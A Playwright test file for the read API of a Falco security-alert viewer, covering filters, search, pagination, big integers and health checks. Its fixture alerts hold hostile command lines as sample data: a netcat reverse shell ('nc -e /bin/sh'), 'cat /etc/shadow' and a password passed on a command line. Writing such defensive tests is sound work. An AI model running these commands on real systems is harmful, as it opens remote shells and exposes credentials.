// The read API: filters (OR within a field, AND across), free text, time ranges, keyset pages that
// stay stable while alerts arrive, exact big integers, and /api/health.
import { expect, test, type APIRequestContext } from '@playwright/test';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { eventCount, makeAlert, post, uniqueTag } from '../fixtures/alerts';
import {
  expectError,
  expectIngested,
  falcoTimeAgo,
  listAllIds,
  listEvents,
  nsToTime,
  sendRaw,
  timeToNs,
  type Params,
} from '../fixtures/api-helpers';
import { SERVERS } from '../servers';

const base = SERVERS.main.url;

interface Spec {
  rule: string;
  priority: string;
  time: string;
  container?: [id: string, name: string];
  image?: [repository: string, tag: string];
  namespace?: string;
  pod?: string;
  tags: string[];
  user: string;
  /** Process names from the process itself (level 0) up its ancestors. */
  chain: string[];
  cmdline: string;
  text: string;
  fdName?: string;
  source?: string;
}

/** A syscall alert in Falco 0.41+ shape (container keys always present) from a spec. */
function build(hostname: string, spec: Spec): Record<string, unknown> {
  const [containerId, containerName] = spec.container ?? ['host', 'host'];
  const fields: Record<string, unknown> = {
    'container.id': containerId,
    'container.name': containerName,
    'container.image.repository': spec.image?.[0] ?? '',
    'container.image.tag': spec.image?.[1] ?? '',
    'k8s.ns.name': spec.namespace ?? null,
    'k8s.pod.name': spec.pod ?? null,
    'evt.type': 'execve',
    'proc.cmdline': spec.cmdline,
    'proc.exepath': `/usr/bin/${spec.chain[0]}`,
    'proc.name': spec.chain[0],
    'user.name': spec.user,
  };
  if (spec.fdName) fields['fd.name'] = spec.fdName;
  if (spec.chain[1]) fields['proc.pname'] = spec.chain[1];
  spec.chain.slice(2).forEach((name, i) => {
    fields[`proc.aname[${i + 2}]`] = name;
  });
  return makeAlert({
    hostname,
    output: `${spec.time.slice(11, 29)}: ${spec.priority} ${spec.text} (user=${spec.user} command=${spec.cmdline} container=${containerId})`,
    fields,
    defaultFields: false,
    priority: spec.priority,
    rule: spec.rule,
    source: spec.source ?? 'syscall',
    tags: spec.tags,
    time: spec.time,
  });
}

test.describe('filters', () => {
  // One data set for the whole group, posted once; every case filters it by its unique hostname.
  let host = uniqueTag('query');
  while (host.includes('a-b')) host = uniqueTag('query');
  const R1 = `${host} rule one`;
  const R2 = `${host} rule two`;
  const R3 = `${host} rule three`;
  const R4 = `${host} rule four`;
  const [t1, t2, t3, t4] = ['t1', 't2', 't3', 't4'].map((t) => `${host}-${t}`) as [string, string, string, string];
  const times = Array.from({ length: 6 }, (_, i) => falcoTimeAgo(1200 - i * 10));
  const specs = {
    A: {
      rule: R1,
      priority: 'Critical',
      time: times[0]!,
      container: ['aaaaaaaaaaaa', 'web'],
      image: ['nginx', '1.25'],
      namespace: 'prod',
      pod: 'web-1',
      tags: [t1],
      user: 'root',
      chain: ['nc', 'sh', 'bash', 'tmux'],
      cmdline: 'nc -e /bin/sh 10.0.0.1 4444',
      text: 'Netcat remote code execution',
    },
    B: {
      rule: R2,
      priority: 'Warning',
      time: times[1]!,
      container: ['bbbbbbbbbbbb', 'db'],
      image: ['postgres', '16'],
      namespace: 'prod',
      pod: 'db-0',
      tags: [t2],
      user: 'postgres',
      chain: ['cat', 'sudo', 'sudo', 'zsh'],
      cmdline: 'cat /etc/shadow',
      fdName: '/etc/shadow',
      text: 'Sensitive file opened for reading',
    },
    C: {
      rule: R1,
      priority: 'Notice',
      time: times[2]!,
      tags: [t1],
      user: 'alice',
      chain: ['mysql', 'bash'],
      cmdline: 'mysql -u root --password=hunter2',
      text: 'Password on the command line',
    },
    D: {
      rule: R3,
      priority: 'Informational',
      time: times[3]!,
      container: ['aaaaaaaaaaaa', 'web'],
      image: ['nginx', '1.25'],
      namespace: 'staging',
      pod: 'web-2',
      tags: [t3],
      user: 'root',
      chain: ['python3', 'sh'],
      cmdline: 'python3 -c print(1)',
      text: 'Config key a-b changed',
    },
    E: {
      rule: R2,
      priority: 'Error',
      time: times[4]!,
      container: ['cccccccccccc', 'worker'],
      image: ['registry.local:5000/tools/worker', '2.0'],
      namespace: 'staging',
      pod: 'worker-0',
      tags: [t2, t3],
      user: 'www-data',
      chain: ['curl', 'sh'],
      cmdline: 'curl http://10.0.0.9/100%_done',
      text: 'Progress 100%_done reached',
    },
    F: {
      rule: R3,
      priority: 'Debug',
      time: times[5]!,
      container: ['dddddddddddd', 'batch'],
      image: ['busybox', 'latest'],
      namespace: 'prod',
      pod: 'batch-1',
      tags: [t4],
      user: 'daemon',
      chain: ['wget'],
      cmdline: 'wget http://10.0.0.9/1000xdone',
      text: 'Progress 1000xdone reached',
    },
    // Three hours old: outside `from=1h`.
    G: {
      rule: R4,
      priority: 'Notice',
      time: falcoTimeAgo(3 * 3600),
      tags: [t4],
      user: 'root',
      chain: ['ls'],
      cmdline: 'ls',
      text: 'An old one',
    },
    // Falco's own health event: left out unless asked for.
    I: {
      rule: `Falco internal: ${host} syscall event drop`,
      priority: 'Debug',
      time: falcoTimeAgo(1100),
      tags: [],
      user: 'root',
      chain: ['falco'],
      cmdline: 'falco',
      text: 'dropped',
      source: 'internal',
    },
  } satisfies Record<string, Spec>;
  type Name = keyof typeof specs;
  const ids = {} as Record<Name, number>;

  test.beforeAll(async ({ request }) => {
    const names = Object.keys(specs) as Name[];
    const report = await expectIngested(
      await post(
        request,
        `${base}/api/events`,
        names.map((name) => build(host, specs[name])),
      ),
      names.length,
      0,
    );
    names.forEach((name, i) => {
      ids[name] = report.ids[i]!;
    });
  });

  /** The names of the alerts a query selects, checked to come newest first. */
  async function select(request: APIRequestContext, params: Params): Promise<Name[]> {
    const list = await listEvents(request, base, { hostname: host, limit: 1000, ...params });
    const times = list.events.map((e) => timeToNs(e.time));
    expect(times, 'newest first').toEqual([...times].sort((a, b) => (a > b ? -1 : a < b ? 1 : 0)));
    const byId = new Map(Object.entries(ids).map(([name, id]) => [id, name as Name]));
    return list.events.map((e) => byId.get(e.id) ?? (`unknown id ${e.id}` as Name)).sort();
  }

  const cases: [string, Params, Name[]][] = [
    ['no filter but the hostname', {}, ['A', 'B', 'C', 'D', 'E', 'F', 'G']],
    ['priority set Critical|Notice', { priority: ['Critical', 'Notice'] }, ['A', 'C', 'G']],
    ['priority in any case', { priority: ['critical', 'info'] }, ['A', 'D']],
    ['minPriority=Warning', { minPriority: 'Warning' }, ['A', 'B', 'E']],
    ['minPriority=Error', { minPriority: 'Error' }, ['A', 'E']],
    ['rule', { rule: R1 }, ['A', 'C']],
    ['rule OR rule', { rule: [R1, R2] }, ['A', 'B', 'C', 'E']],
    ['container by id', { container: 'aaaaaaaaaaaa' }, ['A', 'D']],
    ['container by name', { container: 'web' }, ['A', 'D']],
    ['container host', { container: 'host' }, ['C', 'G']],
    ['container OR container', { container: ['aaaaaaaaaaaa', 'batch'] }, ['A', 'D', 'F']],
    ['image repository', { image: 'nginx' }, ['A', 'D']],
    ['image repository:tag', { image: 'nginx:1.25' }, ['A', 'D']],
    ['image with a registry port', { image: 'registry.local:5000/tools/worker' }, ['E']],
    ['image with a registry port and tag', { image: 'registry.local:5000/tools/worker:2.0' }, ['E']],
    ['namespace', { namespace: 'prod' }, ['A', 'B', 'F']],
    ['namespace OR namespace', { namespace: ['prod', 'staging'] }, ['A', 'B', 'D', 'E', 'F']],
    ['pod', { pod: 'web-1' }, ['A']],
    ['pod OR pod', { pod: ['web-1', 'db-0'] }, ['A', 'B']],
    ['tag', { tag: t1 }, ['A', 'C']],
    ['tag OR tag', { tag: [t2, t3] }, ['B', 'D', 'E']],
    ['user', { user: 'root' }, ['A', 'D', 'G']],
    ['user with a dash', { user: 'www-data' }, ['E']],
    ['proc: the process itself', { proc: 'wget' }, ['F']],
    ['proc: a parent', { proc: 'sh' }, ['A', 'D', 'E']],
    ['proc: a grandparent or parent', { proc: 'bash' }, ['A', 'C']],
    ['proc: a great-grandparent', { proc: 'tmux' }, ['A']],
    ['proc: an ancestor at two levels', { proc: 'sudo' }, ['B']],
    ['q /etc/shadow', { q: '/etc/shadow' }, ['B']],
    ['q nc -e', { q: 'nc -e' }, ['A']],
    ['q --password', { q: '--password' }, ['C']],
    ['q a-b', { q: 'a-b' }, ['D']],
    ['q is case-insensitive', { q: 'ETC/Shadow' }, ['B']],
    ['q is case-insensitive on the output', { q: 'NETCAT' }, ['A']],
    ['q: punctuation separates words and is not compared', { q: '100 done' }, ['E']],
    ['q: % and _ are not wildcards', { q: '100%_done' }, ['E']],
    ['q matches whole words, not a LIKE pattern or a substring', { q: '0%_d' }, []],
    ['q matches whole words, not the start of one', { q: 'netc' }, []],
    ['q with a trailing * takes the last word as a prefix', { q: 'NETC*' }, ['A']],
    ['q words must be in order', { q: 'shadow etc' }, []],
    ['q with nothing matching', { q: 'no such text anywhere' }, []],
    ['AND across fields: rule OR rule, AND namespace', { rule: [R1, R2], namespace: 'prod' }, ['A', 'B']],
    ['AND across fields: tags AND minPriority', { tag: [t2, t3], minPriority: 'Error' }, ['E']],
    ['AND across fields: proc AND user', { proc: 'sh', user: 'root' }, ['A', 'D']],
    ['AND across fields: container AND namespace', { container: 'aaaaaaaaaaaa', namespace: 'staging' }, ['D']],
    ['AND across fields: q AND priority', { q: 'progress', priority: 'Debug' }, ['F']],
    ['AND with no overlap', { rule: R1, namespace: 'staging' }, []],
    ['relative from=1h', { from: '1h' }, ['A', 'B', 'C', 'D', 'E', 'F']],
    ['relative from=4h', { from: '4h' }, ['A', 'B', 'C', 'D', 'E', 'F', 'G']],
    ['relative to=2h', { to: '2h' }, ['G']],
    ['relative from=4h to=2h', { from: '4h', to: '2h' }, ['G']],
    ['to=now', { from: '30m', to: 'now' }, ['A', 'B', 'C', 'D', 'E', 'F']],
    ['internal=include', { internal: 'include' }, ['A', 'B', 'C', 'D', 'E', 'F', 'G', 'I']],
    ['internal=only', { internal: 'only' }, ['I']],
    ['internal=include with priority Debug', { internal: 'include', priority: 'Debug' }, ['F', 'I']],
  ];

  for (const [name, params, expected] of cases) {
    test(`${name}`, async ({ request }) => {
      expect(await select(request, params)).toEqual([...expected].sort());
    });
  }

  test('absolute ISO from/to: from inclusive, to exclusive', async ({ request }) => {
    // [B, D) → B and C.
    expect(await select(request, { from: specs.B.time, to: specs.D.time })).toEqual(['B', 'C']);
    // A window around G, written with an offset.
    const g = timeToNs(specs.G.time);
    const before = new Date(Number(g / 1_000_000n) - 60_000);
    const after = new Date(Number(g / 1_000_000n) + 60_000);
    expect(await select(request, { from: before.toISOString(), to: after.toISOString() })).toEqual(['G']);
    const offset = (d: Date) => new Date(d.getTime() + 2 * 3600_000).toISOString().replace('Z', '+02:00');
    expect(await select(request, { from: offset(before), to: offset(after) })).toEqual(['G']);
  });

  test('absolute from/to honour the nanoseconds they are given', async ({ request }) => {
    const hostname = uniqueTag('query-ns');
    // Two alerts within the same millisecond.
    const ms = BigInt(Date.now() - 600_000) * 1_000_000n;
    const early = nsToTime(ms + 100_000n);
    const late = nsToTime(ms + 900_000n);
    const report = await expectIngested(
      await post(request, `${base}/api/events`, [
        makeAlert({ hostname, time: early }),
        makeAlert({ hostname, time: late }),
      ]),
      2,
      0,
    );
    const [earlyId, lateId] = report.ids;
    const middle = nsToTime(ms + 500_000n);
    expect(await listAllIds(request, base, { hostname, from: middle }), `from=${middle}`).toEqual([lateId]);
    expect(await listAllIds(request, base, { hostname, to: middle }), `to=${middle}`).toEqual([earlyId]);
    expect(await listAllIds(request, base, { hostname, from: late })).toEqual([lateId]);
    expect(await listAllIds(request, base, { hostname, to: late })).toEqual([earlyId]);
  });

  test('q: a prefix beginning too many words to read quickly is refused by every read, saying what to do; a longer one is answered', async ({
    request,
  }) => {
    test.setTimeout(120_000);
    const hostname = uniqueTag('query-broad');
    // Distinct words beginning with "zqx", enough for their lists to pass MAX_PREFIX_PAGES (lib/db/event-search.ts).
    // Three years ago, out of every other test's time range.
    let seed = 7;
    const word = () => `zqx${((seed = (seed * 48271) % 2147483647)).toString(36)}`;
    let first = '';
    for (let batch = 0; batch < 3; batch++) {
      const alerts = Array.from({ length: 500 }, (_, i) => {
        const output = Array.from({ length: 250 }, word).join(' ');
        first ||= output.split(' ')[0]!;
        return makeAlert({ hostname, time: falcoTimeAgo(3 * 365 * 86_400 + batch * 500 + i), output });
      });
      await expectIngested(await post(request, `${base}/api/events`, alerts), 500, 0);
    }
    const message =
      'Too many words begin with "zqx" to search them all quickly: type more of the word before the *, or the whole word.';
    for (const path of [
      '/api/events',
      '/api/events/export',
      '/api/stats/summary',
      '/api/stats/timeline',
      '/api/stats/top?dimension=rule',
      '/api/rules',
      '/api/containers',
      '/api/process-tree',
      '/api/stream',
    ]) {
      const response = await request.get(
        `${base}${path}${path.includes('?') ? '&' : '?'}from=all&q=${encodeURIComponent('ZQX*')}`,
      );
      const body = await expectError(response, 400, 'invalid_query');
      expect(body.error.message, path).toBe(message);
      expect(
        body.error.issues?.map((issue) => issue.field),
        path,
      ).toEqual(['q']);
    }
    // One of those words, whole or as a longer prefix, is answered.
    const withFirst = await listAllIds(request, base, { from: 'all', q: first });
    expect(withFirst).toHaveLength(1);
    expect(await listAllIds(request, base, { from: 'all', hostname, q: `${first.slice(0, 5)}*` })).toContain(
      withFirst[0],
    );
  });
});

test.describe('keyset pagination', () => {
  async function page(request: APIRequestContext, hostname: string, limit: number, cursor?: string) {
    return listEvents(request, base, { hostname, limit, ...(cursor ? { cursor } : {}) });
  }

  test('limit 3 over 10 alerts: every alert exactly once, newest first, nextCursor null at the end', async ({
    request,
  }) => {
    const hostname = uniqueTag('pages');
    // Posted out of time order, so arrival order (id) and time order differ.
    const times = Array.from({ length: 10 }, (_, i) => falcoTimeAgo(900 - i * 7));
    const shuffled = [3, 7, 0, 9, 1, 5, 8, 2, 6, 4].map((i) => times[i]!);
    const report = await expectIngested(
      await post(
        request,
        `${base}/api/events`,
        shuffled.map((time) => makeAlert({ hostname, time })),
      ),
      10,
      0,
    );
    const idByTime = new Map(shuffled.map((time, i) => [time, report.ids[i]!]));
    const expectedOrder = [...times].reverse().map((time) => idByTime.get(time)!);

    const seen: number[] = [];
    const sizes: number[] = [];
    let cursor: string | undefined;
    for (let i = 0; i < 10; i++) {
      const result = await page(request, hostname, 3, cursor);
      sizes.push(result.events.length);
      seen.push(...result.events.map((e) => e.id));
      if (result.nextCursor === null) break;
      expect(typeof result.nextCursor).toBe('string');
      cursor = result.nextCursor;
    }
    expect(sizes).toEqual([3, 3, 3, 1]);
    expect(seen).toEqual(expectedOrder);
    // An exact multiple of the limit ends with a full page and no cursor.
    const all = await page(request, hostname, 10);
    expect(all.events).toHaveLength(10);
    expect(all.nextCursor).toBeNull();
  });

  test('an issued cursor keeps returning the same next page after a newer alert arrives', async ({ request }) => {
    const hostname = uniqueTag('stable');
    const alerts = Array.from({ length: 7 }, (_, i) => makeAlert({ hostname, time: falcoTimeAgo(800 - i * 5) }));
    await expectIngested(await post(request, `${base}/api/events`, alerts), 7, 0);
    const first = await page(request, hostname, 3);
    const cursor = first.nextCursor!;
    expect(cursor).toBeTruthy();
    const second = await page(request, hostname, 3, cursor);

    const newer = await expectIngested(
      await post(request, `${base}/api/events`, makeAlert({ hostname, time: falcoTimeAgo(1) })),
      1,
      0,
    );
    const secondAgain = await page(request, hostname, 3, cursor);
    expect(secondAgain.events.map((e) => e.id)).toEqual(second.events.map((e) => e.id));
    expect(secondAgain.nextCursor).toBe(second.nextCursor);
    // A fresh first page starts with the newcomer.
    const fresh = await page(request, hostname, 3);
    expect(fresh.events[0]!.id).toBe(newer.ids[0]);
    expect(fresh.events.slice(1).map((e) => e.id)).toEqual(first.events.slice(0, 2).map((e) => e.id));
  });

  test('alerts with the same time are neither lost nor repeated across pages', async ({ request }) => {
    const hostname = uniqueTag('ties');
    const time = falcoTimeAgo(700);
    const alerts = Array.from({ length: 5 }, (_, i) => makeAlert({ hostname, time, output: `tie ${i}` }));
    const report = await expectIngested(await post(request, `${base}/api/events`, alerts), 5, 0);
    const seen: number[] = [];
    let cursor: string | undefined;
    for (let i = 0; i < 10; i++) {
      const result = await page(request, hostname, 2, cursor);
      seen.push(...result.events.map((e) => e.id));
      if (result.nextCursor === null) break;
      cursor = result.nextCursor;
    }
    expect(seen).toEqual([...report.ids].sort((a, b) => b - a));
  });

  test('a cursor combines with filters', async ({ request }) => {
    const hostname = uniqueTag('cursor-filter');
    const alerts = Array.from({ length: 6 }, (_, i) =>
      makeAlert({ hostname, priority: i % 2 === 0 ? 'Critical' : 'Notice', time: falcoTimeAgo(650 - i) }),
    );
    const report = await expectIngested(await post(request, `${base}/api/events`, alerts), 6, 0);
    const criticalIds = report.ids.filter((_, i) => i % 2 === 0).reverse();
    const first = await listEvents(request, base, { hostname, priority: 'Critical', limit: 2 });
    const rest = await listEvents(request, base, {
      hostname,
      priority: 'Critical',
      limit: 2,
      cursor: first.nextCursor!,
    });
    expect([...first.events, ...rest.events].map((e) => e.id)).toEqual(criticalIds);
    expect(rest.nextCursor).toBeNull();
  });
});

test.describe('exact numbers and health', () => {
  test('integers beyond 2^53 round-trip exactly in the list and the detail', async ({ request }) => {
    const hostname = uniqueTag('bigint');
    const time = falcoTimeAgo(500);
    const text =
      `{"hostname":"${hostname}","output":"big numbers","output_fields":{"evt.time":1775503946583875213,"neg":-9007199254740993,` +
      `"u64":18446744073709551615,"small":42,"float":0.1,"as.text":"1775503946583875213","list":[9007199254740993,1]},` +
      `"priority":"Notice","rule":"Big integers","source":"syscall","time":"${time}"}`;
    const report = await expectIngested(await sendRaw(request, `${base}/api/events`, text), 1, 0);
    const expectations = [
      '"evt.time":1775503946583875213',
      '"neg":-9007199254740993',
      '"u64":18446744073709551615',
      '"small":42',
      '"float":0.1',
      '"as.text":"1775503946583875213"',
      '"list":[9007199254740993,1]',
    ];
    const detail = await request.get(`${base}/api/events/${report.ids[0]}`);
    expect(detail.status()).toBe(200);
    const detailText = await detail.text();
    for (const literal of expectations) expect(detailText, 'detail').toContain(literal);
    expect(((await detail.json()) as { raw: string }).raw).toBe(text);

    const list = await request.get(`${base}/api/events?hostname=${hostname}`);
    expect(list.status()).toBe(200);
    const listText = await list.text();
    for (const literal of expectations) expect(listText, 'list').toContain(literal);
  });

  test('/api/health: status, version, event count and newest event time', async ({ request }) => {
    const response = await request.get(`${base}/api/health`);
    expect(response.status()).toBe(200);
    const health = (await response.json()) as Record<string, unknown>;
    expect(Object.keys(health).sort()).toEqual(['events', 'newestEventTime', 'status', 'version']);
    const pkg = JSON.parse(readFileSync(path.join(__dirname, '..', '..', 'package.json'), 'utf8')) as {
      version: string;
    };
    expect(health.status).toBe('ok');
    expect(health.version).toBe(pkg.version);
    expect(Number.isSafeInteger(health.events)).toBe(true);

    const time = falcoTimeAgo(0.5);
    await expectIngested(
      await post(request, `${base}/api/events`, makeAlert({ hostname: uniqueTag('health'), time })),
      1,
      0,
    );
    const after = (await (await request.get(`${base}/api/health`)).json()) as {
      events: number;
      newestEventTime: string;
    };
    expect(after.events).toBe(await eventCount(request, base));
    expect(after.events, 'one more alert').toBe((health.events as number) + 1);
    expect(after.newestEventTime).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{9}Z$/);
    expect(timeToNs(after.newestEventTime) >= timeToNs(time)).toBe(true);
  });

  test('/api/health on a store with nothing in it', async ({ request }) => {
    // Read only: the empty server is never posted to.
    const health = (await (await request.get(`${SERVERS.empty.url}/api/health`)).json()) as Record<string, unknown>;
    expect(health).toMatchObject({ status: 'ok', events: 0, newestEventTime: null });
  });
});

test.describe('process trees and rule trends', () => {
  interface Tree {
    scopes: { containerId: string | null; count: number; roots: { name: string; count: number }[] }[];
    truncated: boolean;
    sample: { alerts: number; since: string; total: number | null } | null;
  }
  const tree = async (request: APIRequestContext, query: string) => {
    const response = await request.get(`${base}/api/process-tree?${query}`);
    expect(response.status(), await response.text()).toBe(200);
    return (await response.json()) as Tree;
  };
  const alertsIn = (t: Tree) => t.scopes.reduce((sum, scope) => sum + scope.count, 0);

  test('a process tree holds the newest `alerts` alerts, says since when and of how many, and is whole from that time on', async ({
    request,
  }) => {
    const hostname = uniqueTag('tree-sample');
    const container = { 'container.id': `c${hostname.slice(-11)}`, 'container.name': `web-${hostname}` };
    // Four alerts a second apart, oldest first, in one container; one Kubernetes audit alert (no process).
    const times = [40, 30, 20, 10].map((secondsAgo) => falcoTimeAgo(secondsAgo));
    const alerts = times.map((time, i) =>
      makeAlert({ hostname, time, fields: { ...container, 'proc.name': `step${i}`, 'proc.cmdline': `step${i}` } }),
    );
    alerts.push({
      ...makeAlert({ hostname, time: falcoTimeAgo(5), source: 'k8s_audit' }),
      output_fields: { 'ka.user.name': 'system:anonymous' },
    });
    await expectIngested(await post(request, `${base}/api/events`, alerts), 5, 0);

    const whole = await tree(request, `hostname=${hostname}&from=1h`);
    expect(whole.sample).toBeNull();
    expect(alertsIn(whole)).toBe(4);

    const newest = await tree(request, `hostname=${hostname}&from=1h&alerts=3`);
    expect(newest.sample).toEqual({ alerts: 3, since: times[1], total: 5 });
    expect(alertsIn(newest)).toBe(3);
    // By the container's id or by its name: the same newest three.
    for (const value of [container['container.id'], container['container.name']]) {
      const byContainer = await tree(
        request,
        `hostname=${hostname}&from=1h&alerts=3&container=${encodeURIComponent(value)}`,
      );
      expect(byContainer.sample, value).toEqual({ alerts: 3, since: times[1], total: 4 });
      expect(byContainer.scopes, value).toEqual(newest.scopes);
    }
    // From `since` on, the tree is whole and the same.
    const narrowed = await tree(request, `hostname=${hostname}&from=${encodeURIComponent(times[1]!)}&alerts=3`);
    expect(narrowed.sample).toBeNull();
    expect(narrowed.scopes).toEqual(newest.scopes);

    const bad = await request.get(`${base}/api/process-tree?alerts=0`);
    expect(bad.status()).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('invalid_query');
  });

  test('rule trends count in whole-hour buckets over a day, every trend as long as the buckets and summing to its count', async ({
    request,
  }) => {
    const hostname = uniqueTag('trend');
    const rule = `${hostname} rule`;
    const alerts = [3 * 3600, 2 * 3600 + 5, 600, 60].map((secondsAgo) =>
      makeAlert({ hostname, rule, time: falcoTimeAgo(secondsAgo) }),
    );
    await expectIngested(await post(request, `${base}/api/events`, alerts), 4, 0);
    const response = await request.get(`${base}/api/rules?hostname=${hostname}&from=24h`);
    expect(response.status()).toBe(200);
    const { rules, trend } = (await response.json()) as {
      rules: { rule: string; count: number; trend: number[] }[];
      trend: { start: number; widthMs: number; buckets: number; from: number; to: number };
    };
    expect(trend.widthMs).toBe(3_600_000);
    expect(trend.start % 3_600_000).toBe(0);
    expect(trend.to - trend.from).toBe(86_400_000);
    expect([24, 25]).toContain(trend.buckets);
    expect(rules).toHaveLength(1);
    expect(rules[0]!.trend).toHaveLength(trend.buckets);
    expect(rules[0]!.trend.reduce((sum, n) => sum + n, 0)).toBe(4);
    // The alerts 3 h and 2 h ago sit in buckets two and three hours (give or take one) before the last.
    const last = trend.buckets - 1;
    expect(rules[0]!.trend.slice(last - 4, last + 1).reduce((sum, n) => sum + n, 0)).toBe(4);
  });
});
